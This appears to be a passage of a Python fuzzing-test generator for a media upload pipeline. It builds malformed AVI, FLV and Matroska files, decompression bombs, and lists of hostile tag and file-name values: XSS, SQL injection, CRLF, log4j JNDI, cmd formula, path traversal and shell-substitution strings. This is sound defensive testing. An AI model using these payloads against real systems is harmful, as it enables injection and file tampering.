    yield sound("w64-size-2-63", EITHER, w64[:16] + struct.pack("<Q", 2**63 - 1) + w64[24:], "clip.w64")
    avi = honest()["clip.avi"]
    for name, at, new in (
        ("frame-time-0", 8, b"\0\0\0\0"), ("streams-most", 32, b"\xff\xff\xff\xff"), ("width-most", 40, b"\xff\xff\xff\x7f"),
    ):  # fmt: skip
        bent = bytearray(avi)
        start = avi.index(b"avih") + at
        bent[start : start + 4] = new
        yield Case(f"avi-{name}", "header", bytes(bent), EITHER, "clip.avi")
    strh, strf = avi.index(b"strh") + 8, avi.index(b"strf") + 8
    for name, at, new in (
        ("scale-0", strh + 20, b"\0\0\0\0"), ("rate-0", strh + 24, b"\0\0\0\0"), ("rate-most", strh + 24, b"\xff\xff\xff\x7f"),
        ("length-most", strh + 32, b"\xff\xff\xff\x7f"), ("picture-most", strf + 4, b"\xff\xff\xff\x7f\xff\xff\xff\x7f"),
        ("picture-30000", strf + 4, struct.pack("<II", 30000, 30000)),
    ):  # fmt: skip
        yield Case(f"avi-{name}", "header", avi[:at] + new + avi[at + len(new) :], EITHER, "clip.avi")
    flv = honest()["clip.flv"]
    yield Case(
        "flv-nested-script", "header", flv[:13] + _flv_script(b"\x0a\0\0\0\1" * 3000) + flv[13:], EITHER, "clip.flv"
    )
    duration = flv.index(b"duration") + 9
    yield Case(
        "flv-forever", "header", flv[:duration] + struct.pack(">d", 1e300) + flv[duration + 8 :], EITHER, "clip.flv"
    )


def _flv_script(body: bytes) -> bytes:
    body = b"\2\0\x0aonMetaData" + body
    return b"\x12" + len(body).to_bytes(3, "big") + b"\0" * 7 + body + struct.pack(">I", len(body) + 11)


def elements(bait: Bait) -> Iterator[Case]:
    """Matroska."""
    head = ebml(0x1A45DFA3, ebml(0x4282, b"matroska") + ebml(0x4287, b"\4") + ebml(0x4285, b"\2"))
    scale, duration = ebml(0x2AD7B1, (1_000_000).to_bytes(4, "big")), ebml(0x4489, struct.pack(">d", 1000.0))
    pcm = ebml(0x86, b"A_PCM/INT/LIT")

    def track(*inside: bytes, kind: bytes = b"\2") -> bytes:
        return ebml(
            0x1654AE6B, ebml(0xAE, ebml(0xD7, b"\1") + ebml(0x73C5, b"\1") + ebml(0x83, kind) + b"".join(inside))
        )

    def audio(rate: float = 48000.0, channels: int = 1) -> bytes:
        sampling = ebml(0xB5, struct.pack(">d", rate)) + ebml(0x9F, channels.to_bytes(4, "big")) + ebml(0x6264, b"\x10")
        return pcm + ebml(0xE1, sampling)

    def cluster(time: int = 0) -> bytes:
        block = b"\x81\0\0\x80" + b"\0" * 9600
        return ebml(0x1F43B675, ebml(0xE7, time.to_bytes(8, "big")) + ebml(0xA3, block))

    def film(*inside: bytes) -> bytes:
        return head + ebml(0x18538067, b"".join(inside))

    def case(name: str, data: bytes, ends: str = EITHER) -> Case:
        return Case(f"mkv-{name}", "element", data, ends, "clip.mkv")

    info = ebml(0x1549A966, scale + duration)
    sound = track(audio())
    yield case("plain", film(info, sound, *(cluster(n * 100) for n in range(10))), TAKEN)
    for name, value in (("nan", float("nan")), ("infinite", float("inf")), ("1e300", 1e300), ("negative", -1e9)):
        yield case(
            f"duration-{name}", film(ebml(0x1549A966, scale + ebml(0x4489, struct.pack(">d", value))), sound, cluster())
        )
    yield case("scale-0", film(ebml(0x1549A966, ebml(0x2AD7B1, b"\0") + duration), sound, cluster()))
    yield case("scale-2-63", film(ebml(0x1549A966, ebml(0x2AD7B1, b"\x7f" + b"\xff" * 7) + duration), sound, cluster()))
    for name, rate in (
        ("nan", float("nan")),
        ("infinite", float("inf")),
        ("1e300", 1e300),
        ("0", 0.0),
        ("negative", -48000.0),
    ):
        yield case(f"rate-{name}", film(info, track(audio(rate)), cluster()))
    yield case("channels-2-31", film(info, track(audio(channels=2**31 - 1)), cluster()))
    yield case("channels-1000", film(info, track(audio(channels=1000)), cluster()))
    picture = ebml(0x86, b"V_UNCOMPRESSED") + ebml(
        0xE0, ebml(0xB0, b"\xff\xff\xff") + ebml(0xBA, b"\xff\xff\xff") + ebml(0x2EB524, b"I420")
    )
    yield case("picture-16-million", film(info, track(picture, kind=b"\1"), cluster()), REFUSED)
    yield case("two-days-in-two-blocks", film(info, sound, cluster(0), cluster(47 * 3600 * 1000)), REFUSED)
    yield case("an-hour-in-two-blocks", film(info, sound, cluster(0), cluster(3600 * 1000)), REFUSED)
    yield case("time-2-63", film(info, sound, cluster(2**63 - 1)))
    yield case("segment-size-2-56", head + ebml(0x18538067, info + sound + cluster(), 2**56 - 2))
    yield case("element-size-2-56", film(info, ebml(0x1654AE6B, b"", 2**56 - 2), cluster()), REFUSED)
    attachment = ebml(
        0x61A7,
        ebml(0x466E, b"../../../../etc/cron.d/harm")
        + ebml(0x4660, b"application/x-truetype-font")
        + ebml(0x465C, b"\0" * 64)
        + ebml(0x46AE, b"\1"),
    )
    yield case(
        "1000-attachments",
        film(info, sound, ebml(0x1941A469, attachment * 1000), *(cluster(n * 100) for n in range(10))),
        TAKEN,
    )
    yield case(
        "attachment-out-of-its-folder",
        film(info, sound, ebml(0x1941A469, attachment), *(cluster(n * 100) for n in range(10))),
        TAKEN,
    )
    linked = ebml(0x3EB923, b"\1" * 16) + ebml(0x3E83BB, str(bait.secret).encode())
    yield case(
        "linked-segment",
        film(ebml(0x1549A966, scale + duration + linked), sound, *(cluster(n * 100) for n in range(10))),
        TAKEN,
    )
    nested = b""
    for _ in range(500):
        nested = ebml(0x67C8, ebml(0x45A3, b"T") + nested)
    yield case("tags-in-tags", film(info, sound, ebml(0x1254C367, ebml(0x7373, nested)), cluster()))
    bomb = ebml(0x6D80, ebml(0x6240, ebml(0x5034, ebml(0x4254, b"\0"))))
    packed = zlib.compress(b"\0" * (64 << 20), 9)
    squeezed = ebml(0x1F43B675, ebml(0xE7, b"\0") + ebml(0xA3, b"\x81\0\0\x80" + packed))
    yield case("compressed-block-bomb", film(info, track(audio() + bomb), squeezed))
    seeks = ebml(0x4DBB, ebml(0x53AB, b"\x11\x4d\x9b\x74") + ebml(0x53AC, b"\0"))
    yield case("seek-to-itself", film(ebml(0x114D9B74, seeks * 2000), info, sound, cluster()))
    cues = ebml(0xBB, ebml(0xB3, b"\0") + ebml(0xB7, ebml(0xF7, b"\1") + ebml(0xF1, b"\x7f" + b"\xff" * 7)))
    yield case("cues-beyond", film(info, sound, cluster(), ebml(0x1C53BB6B, cues * 5000)))
    chapter = ebml(
        0xB6,
        ebml(0x73C4, b"\1")
        + ebml(0x91, b"\0")
        + ebml(0x92, b"\x7f" + b"\xff" * 7)
        + ebml(0x80, ebml(0x85, b"<b>x</b>\n" * 10)),
    )
    yield case(
        "10000-chapters",
        film(info, sound, ebml(0x1043A770, ebml(0x45B9, chapter * 10_000)), *(cluster(n * 100) for n in range(10))),
        EITHER,
    )
    yield case(
        "65-tracks",
        film(
            info,
            ebml(
                0x1654AE6B,
                b"".join(
                    ebml(0xAE, ebml(0xD7, bytes([n])) + ebml(0x73C5, bytes([n])) + ebml(0x83, b"\2") + audio())
                    for n in range(1, 90)
                ),
            ),
            cluster(),
        ),
        REFUSED,
    )
    yield case("no-doctype", ebml(0x1A45DFA3, b"") + ebml(0x18538067, info + sound + cluster()), EITHER)


def cut(bait: Bait) -> Iterator[Case]:
    """Each container cut in its head, its middle and its tail; those that say how long they are must be found out."""
    declares = {"clip.mp4", "clip.mkv", "clip.avi", "clip.wav", "clip.flac", "clip.mxf"}
    for name, data in honest().items():
        for share in (0.02, 0.5):
            ends = REFUSED if name in declares and share == 0.5 else EITHER
            yield Case(f"cut-{name}-{share:.0%}", "cut", data[: int(len(data) * share)], ends, name)
    film = honest()["clip.mp4"]
    at = 0
    while at + 8 <= len(film):
        size, kind = struct.unpack(">I4s", film[at : at + 8])
        yield Case(f"cut-mp4-before-{kind.decode()}-{at}", "cut", film[:at], REFUSED)
        yield Case(f"cut-mp4-inside-{kind.decode()}-{at}", "cut", film[: at + size // 2], REFUSED)
        at += size


#: What people and attackers write into a file's tags.
TITLES = {
    "html": "<script>alert('harm')</script><img src=x onerror=alert(1)>",
    "sql": "'); DROP TABLE media_app_mediaasset; --",
    "newlines": "one\r\nSet-Cookie: harm=1\r\n\r\n<html>",
    "control": "bell\x07 escape\x1b[2J back\x08space",
    "rtl": "\u202egpj.tset\u202c \u2066harm\u2069",
    "template": "{{ 7*7 }}{% debug %}${7*7}#{7*7}",
    "format": "%s%n%x{0.__class__}",
    "formula": "=cmd|'/c calc'!A1",
    "json": '"},"harm":{"x":"',
    "zero-width": "\u200b\ufeff\u00ad" * 20,
    "emoji": "👩‍👩‍👧‍👦" * 30,
    "long": "A" * 100_000,
    "path": "../../../../etc/passwd",
    "log4j": "${jndi:ldap://127.0.0.1/harm}",
}


def tagged(bait: Bait) -> Iterator[Case]:
    for name, title in TITLES.items():
        for filename, extra in (("clip.mp4", ("-movflags", "use_metadata_tags")), ("clip.mkv", ())):
            if name == "long" and filename == "clip.mkv":
                continue
            data = _made(
                f"tag-{name}-{filename}", *_H264, "-t", "0.4", "-c:a", "aac", *extra, "-metadata", f"title={title}",
                "-metadata", f"comment={title[:2000]}", "-metadata:s:v", f"handler_name={title[:200]}",
            )  # fmt: skip
            yield Case(f"tag-{name}-{filename}", "tag", data, TAKEN, filename)
    film = honest()["clip.mp4"]
    for name, value in (
        ("4-MB", b"A" * 4_000_000),
        ("broken-utf8", b"\xff\xfe\xc0\xaf" * 100),
        ("nuls", b"a\0b\0" * 100),
    ):
        tag = box(
            b"udta",
            box(
                b"meta",
                b"\0\0\0\0",
                box(b"hdlr", b"\0" * 8 + b"mdirappl" + b"\0" * 9),
                box(b"ilst", box(b"\xa9nam", box(b"data", b"\0\0\0\1\0\0\0\0" + value))),
            ),
        )
        moov = film.index(b"moov") - 4
        size = struct.unpack(">I", film[moov : moov + 4])[0]
        data = (
            film[:moov] + struct.pack(">I", size + len(tag)) + film[moov + 4 : moov + size] + tag + film[moov + size :]
        )
        yield Case(f"tag-{name}", "tag", data, TAKEN if moov > film.index(b"mdat") else EITHER)


MAKERS: Sequence[Callable[[Bait], Iterator[Case]]] = (
    playlists, disguised_lists, texts, others, atoms, chunks, elements, cut, tagged,
)  # fmt: skip


def cases(bait: Bait) -> list[Case]:
    return [case for make in MAKERS for case in make(bait)]


def mutated(count: int, seed: int) -> Iterator[Case]:
    """Honest files with bytes flipped, overwritten, cut out, doubled and swapped, a different mix each."""
    chance = random.Random(seed)
    files = list(honest().items())
    for number in range(count):
        filename, data = files[number % len(files)]
        bent = bytearray(data)
        for _ in range(chance.choice((1, 2, 5, 20, 100))):
            at = chance.randrange(len(bent)) if chance.random() < 0.5 else chance.randrange(min(len(bent), 2048))
            what = chance.randrange(6)
            if what == 0:
                bent[at] ^= 1 << chance.randrange(8)
            elif what == 1:
                bent[at : at + 4] = chance.choice((b"\xff" * 4, b"\0" * 4, b"\x7f\xff\xff\xff", b"\x80\0\0\0"))
            elif what == 2:
                bent[at : at + 8] = chance.randbytes(8)
            elif what == 3:
                del bent[at : at + chance.randrange(1, 64)]
            elif what == 4:
                bent[at:at] = bent[at : at + chance.randrange(1, 512)]
            else:
                other = chance.randrange(len(bent))
                bent[at : at + 16], bent[other : other + 16] = bent[other : other + 16], bent[at : at + 16]
            if len(bent) < 64:
                break
        yield Case(f"mutated-{seed}-{number}-{filename}", "mutated", bytes(bent), EITHER, filename)


#: File names that are refused before a byte is sent, each with what is wrong about it.
BAD_NAMES = {
    "empty": "", "blank": "   ", "dots": "..", "slash": "a/b.mp4", "up": "../../etc/passwd.mp4", "absolute": "/etc/passwd.mp4",
    "backslash": "a\\b.mp4", "windows-up": "..\\..\\x.mp4", "nul": "a\0.mp4", "nul-extension": "a.mp4\0.exe", "newline": "a\nb.mp4",
    "return": "a\rb.mp4", "tab": "a\tb.mp4", "escape": "a\x1b[31m.mp4", "bell": "a\x07.mp4", "rtl": "a\u202e4pm.exe.mp4", "rtl-end": "\u2067a.mp4",
    "zero-width": "a\u200b.mp4", "bom": "\ufeffa.mp4", "soft-hyphen": "a\u00ad.mp4", "lone-surrogate": "a\ud800.mp4", "delete": "a\x7f.mp4",
    "c1": "a\x85.mp4", "10-kB": "a" * 10_000 + ".mp4", "256": "a" * 252 + ".mp4", "wide": "🎥" * 260 + ".mp4", "no-extension": "clip",
    "exe": "clip.exe", "php": "clip.php", "html": "clip.html", "svg": "clip.svg", "m3u8": "clip.m3u8", "playlist": "clip.m3u", "mpd": "clip.mpd",
    "concat": "clip.ffconcat", "zip": "clip.zip", "double": "clip.mp4.exe", "sdp": "clip.sdp", "txt": "clip.txt", "sh": "clip.mp4.sh",
    "jpg": "clip.jpg", "pdf": "clip.pdf", "trailing-dot": "clip.mp4.", "trailing-space": "clip.mp4 ", "only-extension-of-path": "x.mp4/..",
    "url": "http://127.0.0.1/x.mp4", "subfile": "subfile,,start,0,end,0,,:/etc/passwd", "file-url": "file:///etc/passwd.mp4",
    "stream": "clip.mp4::$DATA", "dotfile": ".htaccess", "fullwidth-dot": "ｃｌｉｐ．mp4",
}  # fmt: skip
#: File names that look like harm and are only words: taken, kept as they are, and harmless wherever they are shown.
ODD_NAMES = {
    "html": "<img src=x onerror=alert(1)>.mp4", "script": "<script>alert(1)<script>.mp4", "sql": "'; DROP TABLE x; --.mp4", "quotes": "\"'`.mp4",
    "shell": "$(touch harm);`id`|cat&.mp4", "option": "-i.mp4", "option-y": "-y -f null.mp4", "concat": "concat:a|b.mp4", "pipe": "pipe:0.mp4",
    "percent": "clip%d%s%n.mp4", "image2": "img%03d.mp4", "glob": "*?[a-z]{a,b}.mp4", "template": "{{7*7}}{%debug%}.mp4", "reserved": "CON.mp4",
    "reserved-com": "COM1.mp4", "aux": "aux.mp4", "colon": "a:b.mp4", "tilde": "~root.mp4", "umlauts": "Übung größer.mp4", "japanese": "録画.mp4",
    "arabic": "تسجيل.mp4", "emoji": "🎬🎥.mp4", "combining": "e\u0301e\u0301.mp4", "zalgo": "a" + "\u0335" * 60 + ".mp4",
    "homoglyph": "сlip.mp4", "spaces": "  a   b  .mp4", "header": "a; filename=evil.exe.mp4", "comma": "a,b;c=d.mp4", "255": "a" * 251 + ".mp4",
    "upper": "CLIP.MP4", "dots": "a..b...mp4", "hash": "a#b?c=d&e.mp4", "leading-dot": ".hidden.mp4", "semicolon-header": 'x";y="z.mp4',
}  # fmt: skip
